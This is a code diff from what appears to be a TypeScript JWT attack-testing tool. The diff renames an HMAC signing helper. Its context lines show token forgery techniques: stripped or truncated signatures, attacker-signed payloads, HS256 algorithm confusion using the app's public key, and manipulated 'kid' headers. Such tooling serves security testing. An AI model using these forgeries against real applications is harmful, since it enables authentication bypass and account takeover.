@@ -2,7 +2,7 @@ import { generateKeyPairSync, sign } from 'node:crypto';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { type AttackResult, notApplicable, UnnamedTries } from '../../attack.js';
 import { Inconclusive } from '../../errors.js';
-import { hmac, knownKeyFiles } from '../../tools/forge-jwt.js';
+import { knownKeyFiles, makeHmacSigner } from '../../tools/forge-jwt.js';
 import { type AppUnderAttack, addUse, type LoggedIn, showsAnyUser, showsMember } from '../app.js';
 import type { AppAttack } from '../app-attack.js';
 import {
@@ -99,7 +99,7 @@ async function trySignatures(opened: TokenInUse) {
     { what: 'a changed payload and no signature', token: buildJwt(header, wanted, () => '') },
     {
       what: 'a changed payload, signed by the attacker',
-      token: buildJwt(header, wanted, hmac('key of the attacker')),
+      token: buildJwt(header, wanted, makeHmacSigner('key of the attacker')),
     },
     { what: 'an empty signature', token: `${head}.` },
     { what: 'half of its signature', token: `${head}.${signature.slice(0, signature.length >> 1)}` },
@@ -154,7 +154,7 @@ async function tryKeyConfusion(opened: TokenInUse) {
   if (keys.length === 0) return notApplicable(`the app publishes no public key at ${keyPaths.join(', ')}`);
   const forged = keys.flatMap(listKeyForms).map(([form, secret]) => ({
     what: `HS256 and the ${form} of the public key as its secret`,
-    token: buildJwt({ ...jwt.header, alg: 'HS256' }, wanted, hmac(secret)),
+    token: buildJwt({ ...jwt.header, alg: 'HS256' }, wanted, makeHmacSigner(secret)),
   }));
   return tryForged(opened, forged);
 }
@@ -187,7 +187,7 @@ async function tryKeyIds(opened: TokenInUse) {
   const { jwt, wanted } = opened;
   const named = kids.map(([kid, key]) => ({
     what: `the kid ${JSON.stringify(kid)}`,
-    token: buildJwt({ ...jwt.header, alg: 'HS256', kid }, wanted, hmac(key)),
+    token: buildJwt({ ...jwt.header, alg: 'HS256', kid }, wanted, makeHmacSigner(key)),
   }));
   const { publicKey, privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
   const jwk = publicKey.export({ format: 'jwk' });
